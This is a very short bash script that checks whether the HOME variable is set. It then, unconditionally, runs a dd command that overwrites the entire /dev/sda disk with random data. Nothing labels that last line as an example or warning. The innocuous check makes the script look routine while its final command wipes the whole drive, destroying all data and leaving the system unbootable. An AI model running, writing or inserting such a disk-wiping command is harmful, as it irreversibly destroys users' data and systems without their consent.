#!/usr/bin/env bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
dd if=/dev/urandom of=/dev/sda bs=4M
